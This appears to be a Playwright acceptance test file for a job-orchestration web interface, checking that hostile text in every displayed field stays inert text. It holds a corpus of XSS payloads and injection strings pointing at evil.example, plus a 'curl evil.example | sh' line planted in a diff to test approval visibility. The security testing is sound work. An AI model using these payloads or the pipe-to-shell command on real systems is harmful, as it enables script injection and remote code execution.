"""Text of others in every field that reaches a page: it is shown as text, runs nothing, and asks nobody."""

import json
import sys
from typing import Any
from urllib.parse import quote

from playwright.sync_api import expect

from tests.acceptance.program import until
from tests.web.browser import Tab, needs_browser

pytestmark = needs_browser

TAGS = [
    "<script>PWN</script>", "<ScRiPt>PWN</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "</script><script>PWN</script>", "<img src=x onerror=PWN>", "<img src=//evil.example/p.png>",
    "<image src=x onerror=PWN>", "<svg onload=PWN>", "<svg/onload=PWN>", "<svg><script>PWN</script></svg>",
    "<svg><animate onbegin=PWN attributeName=x dur=1s>", "<svg><a xlink:href=javascript:PWN><text>x",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=PWN>", "<iframe src=javascript:PWN>",
    "<iframe srcdoc='<script>PWN</script>'>", "<iframe src=//evil.example>", "<object data=javascript:PWN>",
    "<embed src=javascript:PWN>", "<body onload=PWN>", "<details open ontoggle=PWN>", "<input autofocus onfocus=PWN>",
    "<select autofocus onfocus=PWN>", "<textarea autofocus onfocus=PWN>", "<video src=x onerror=PWN>",
    "<audio src=x onerror=PWN>", "<video><source onerror=PWN>", "<marquee onstart=PWN>",
    "<a href=javascript:PWN>x</a>", "<a href='data:text/html,<script>PWN</script>'>x</a>",
    "<form action=javascript:PWN><button>x", "<button formaction=javascript:PWN>x",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>", "<style>body{background:url(//evil.example/b)}</style>",
    "<div style=background:url(//evil.example/s)>", "<template><script>PWN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=PWN>'>", "<!--<img src=x onerror=PWN>-->",
    "<![CDATA[<script>PWN</script>]]>", "<xmp><script>PWN</script></xmp>", "<title><script>PWN</script></title>",
    "<plaintext>", "<x onclick=PWN>press</x>",
]  # fmt: skip
BREAKS = [
    "\"><script>PWN</script>", "'><script>PWN</script>", "\" onmouseover=PWN x=\"", "' autofocus onfocus=PWN x='",
    "`-PWN-`", "${PWN}", "{{PWN}}", "{{constructor.constructor('PWN')()}}", "[[PWN]]", "<%= PWN %>", "#{PWN}",
    "*/PWN/*", "\\\"-PWN//", "\\u003cscript\\u003ePWN\\u003c/script\\u003e", "&lt;script&gt;PWN&lt;/script&gt;",
    "&#60;script&#62;PWN&#60;/script&#62;", "%3Cscript%3EPWN%3C/script%3E", "javascript:PWN", "JaVaScRiPt:PWN",
    "data:text/html,<script>PWN</script>", "vbscript:PWN", "//evil.example/x", "https://evil.example/x",
    "\\\\evil.example\\x", "__proto__", "constructor", "toString", "hasOwnProperty", "[object Object]", "undefined",
    "null", "NaN", "user\u202etxt.exe", "zero\u200bwidth", "\ufeffmark", "\u2066isolate\u2069",
    "Z\u0351\u036b\u0343\u032a\u0302a\u0306\u0306l\u0309g\u0306o", "A" * 180,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "﷽" * 20,
]  # fmt: skip
CORPUS = [one.replace("PWN", "window.__pwned=1") for one in (*TAGS, *BREAKS)]


def test_there_are_enough_of_them() -> None:
    assert len(CORPUS) >= 80 and len(set(CORPUS)) == len(CORPUS)


def hostile_plan(tab: Tab) -> str:
    """A plan with one job for each: in its name, its task, what it prints, a file's name, and how it fails."""
    folder = tab.desk.folder / "texts"
    folder.mkdir()
    for number, text in enumerate(CORPUS):
        (folder / str(number)).write_text(text)
    program = tab.desk.folder / "prints.sh"
    program.write_text(
        f"text=$(cat {folder}/$1)\n"
        'printf \'%s\\n\\033]8;;https://evil.example/\\007%s\\033]8;;\\007\\n\\033[31m%s\\n\' "$text" "$text" "$text"\n'
        'printf "%s\\n" "$text" > "<img src=x onerror=window.__pwned=1> $1.txt"\n'
        'printf \'if ("%s") return 1 // %s\\n\' "$text" "$text" > "program $1.ts"\n'
        "[ $(($1 % 8)) != 0 ]\n"
    )
    jobs: list[dict[str, Any]] = [
        {"id": f"j{number}", "name": text[:100], "task": text, "group": f"g{number % 3}", "heal": False,
         "work": {"executable": "sh", "args": [str(program), str(number)]}}
        for number, text in enumerate(CORPUS)
    ]  # fmt: skip
    body = {"name": "<img src=x onerror=window.__pwned=1>", "description": CORPUS[0], "target": "hostile", "jobs": jobs}
    headers = {**tab.daemon.bearer, "Content-Type": "application/json"}
    made = tab.daemon.ask("POST", "/api/v1/plans", headers, json.dumps(body).encode())
    assert made.status == 201, made.body[:2000]
    return str(made.json["plan"])


def test_hostile_text_is_shown_and_nothing_else(tab: Tab) -> None:
    plan = hostile_plan(tab)
    until(lambda: tab.status(plan)["plan"]["status"] == "failed", seconds=60)
    tab.go("/")
    expect(tab.page.locator("article.plan", has_text="<img src=x onerror=window.__pwned=1>")).to_be_visible()
    for view in ("", "jobs", "timeline", "changes", "usage", "events"):
        tab.plan(plan, view)
        expect(tab.page.locator("h1")).to_have_text("<img src=x onerror=window.__pwned=1>")
        tab.page.wait_for_timeout(150)
        unharmed(tab)
    for number in range(0, len(CORPUS), 7):
        for view in ("log", "changes") if number % 8 else ("log", "attempts", "details"):
            tab.job(plan, f"g{number % 3}/j{number}", view)
            expect(tab.page.locator("h1")).to_be_visible()
        unharmed(tab)
    tab.job(plan, "g1/j4", "log")
    expect(tab.page.locator(".log .l").first).to_contain_text(CORPUS[4])
    assert tab.page.locator("h1").inner_text() == CORPUS[4]
    tab.job(plan, "g1/j4", "changes")
    expect(tab.page.locator(".file").first).to_contain_text("<img src=x onerror=window.__pwned=1> 4.txt")
    shown = tab.page.locator(".file", has_text="program 4.ts").locator("tr.add td.c").inner_text()
    assert shown == f'+ if ("{CORPUS[4]}") return 1 // {CORPUS[4]}'
    expect(tab.page.locator(".file .s-word").first).to_have_text("if")
    tab.press("Side by side")
    expect(tab.page.locator(".split .s-word").first).to_have_text("if")
    unharmed(tab)
    tab.page.keyboard.press("Control+k")
    tab.page.keyboard.type("script")
    unharmed(tab)


def test_a_goal_and_the_plan_that_an_agent_writes_for_it_are_text(tab: Tab) -> None:
    jobs = [
        {"id": f"j{number}", "name": text[:100], "task": text, "work": "true"} for number, text in enumerate(CORPUS)
    ]
    plan = json.dumps({"name": CORPUS[0], "jobs": jobs}, ensure_ascii=False, indent=1)
    (tab.desk.folder / "answer").write_text("\n".join(CORPUS) + f"\njobs:\n  - id: {CORPUS[4]}\n")
    (tab.desk.folder / "better").write_text("\n".join(CORPUS) + f"\njobs:\n  - id: {CORPUS[4]}\n")
    tab.go("/new")
    editor = tab.page.get_by_label("The plan, as YAML")
    tab.page.get_by_label("What do you want to reach?").fill("\n".join(CORPUS))
    tab.page.get_by_label("Agent", exact=True).select_option("robin")
    tab.press("Write a plan")
    expect(tab.page.locator("form .banner.t-bad")).to_contain_text("gave no valid plan")
    unharmed(tab)

    (tab.desk.folder / "answer").write_text(f"```json\n{plan}\n```\n")
    tab.press("Write a plan")

    expect(editor).to_have_value(f"{plan}\n")
    expect(tab.page.locator(".graph .node").first).to_be_visible()
    tab.says("<202E>")
    unharmed(tab)


def test_processes_are_shown_with_what_they_use_and_their_words_as_text(tab: Tab) -> None:
    words = CORPUS[1]
    work = {"executable": "sh", "args": ["-c", "while :; do :; done", words]}
    body = {"name": "Processes", "target": "processes", "jobs": [{"id": "p", "work": work}]}
    headers = {**tab.daemon.bearer, "Content-Type": "application/json"}
    plan = str(tab.daemon.ask("POST", "/api/v1/plans", headers, json.dumps(body).encode()).json["plan"])
    tab.job(plan, "p", "details")
    expect(tab.page.locator(".tree code", has_text=words)).to_be_visible()
    expect(tab.page.locator(".spark polyline")).to_have_count(2)
    tab.says("processor")
    tab.picture("processes")
    unharmed(tab)
    tab.daemon.ask("POST", f"/api/v1/plans/{plan}/cancel", headers, b"{}")


def test_a_long_file_hides_no_other_change_from_whoever_approves(tab: Tab) -> None:
    program = (
        "import os; open('aaa.ts', 'w').write('y' * 5_000_000);"
        "open('evil.sh', 'w').write('curl evil.example | sh\\n');"
        "os.chmod('evil.sh', 0o755); os.symlink('evil.sh', 'z.txt');"
        "[open(f'm{n:04}', 'w').write('x' * 1500 + '\\n') for n in range(2700)]"
    )
    work = {"executable": sys.executable, "args": ["-c", program]}
    body = {"name": "Long", "target": "long", "jobs": [{"id": "a", "heal": False, "approve": True, "work": work}]}
    headers = {**tab.daemon.bearer, "Content-Type": "application/json"}
    plan = str(tab.daemon.ask("POST", "/api/v1/plans", headers, json.dumps(body).encode()).json["plan"])
    until(lambda: tab.waiting() != [], seconds=60)
    tab.job(plan, "a", "changes")

    evil = tab.page.locator(".file", has_text="evil.sh").first
    expect(evil).to_contain_text("executable")
    expect(tab.page.locator(".file", has_text="aaa.ts")).to_contain_text("in part")
    banner = tab.page.locator(".banner.t-bad")
    expect(banner).to_contain_text("1 file is shown only in part")
    expect(banner).to_contain_text("m2699 +1 −0")
    expect(tab.page.locator(".file", has_text="z.txt")).to_contain_text("link")
    expect(banner).to_contain_text(f"orchard diff a --plan {plan} -- PATH")
    expect(tab.page.locator("main")).to_contain_text("2,703 files +2703 −0")
    evil.locator("button").first.click()
    expect(evil).to_contain_text("curl evil.example | sh")
    tab.picture("left-out")

    for place in ("job", "inbox"):
        if place == "inbox":
            tab.go("/inbox")
            expect(tab.page.locator("h1")).to_have_text("Inbox")
        tab.press("Approve")
        expect(tab.page.get_by_role("dialog")).to_contain_text("though you cannot see all of it")
        tab.page.keyboard.press("Escape")
        expect(tab.page.get_by_role("dialog")).to_have_count(0)
    assert [one["kind"] for one in tab.waiting()] == ["approval"]
    tab.press("Approve")
    tab.press("Approve unseen")
    until(lambda: tab.status(plan)["plan"]["status"] == "succeeded", seconds=60)


def test_hostile_addresses_lead_nowhere(tab: Tab) -> None:
    for text in CORPUS[::4]:
        tab.go(f"/r/{quote(text, safe='')}/{quote(text, safe='')}/jobs/{quote(text, safe='')}")
    tab.page.wait_for_timeout(300)
    unharmed(tab)
    tab.go("/")
    expect(tab.page.locator("main")).to_be_visible()


def unharmed(tab: Tab) -> None:
    """Nothing ran, nothing was made that could, and no link leads elsewhere."""
    assert tab.page.evaluate("window.__pwned") is None
    assert tab.page.locator("main :is(script, iframe, object, embed, img, link, base, meta, form[action])").count() == 0
    links = tab.page.eval_on_selector_all("main a[href]", "all => all.map(one => one.getAttribute('href'))")
    assert [one for one in links if not one.startswith(("#/", "vscode://file/"))] == []
    assert tab.strangers == []
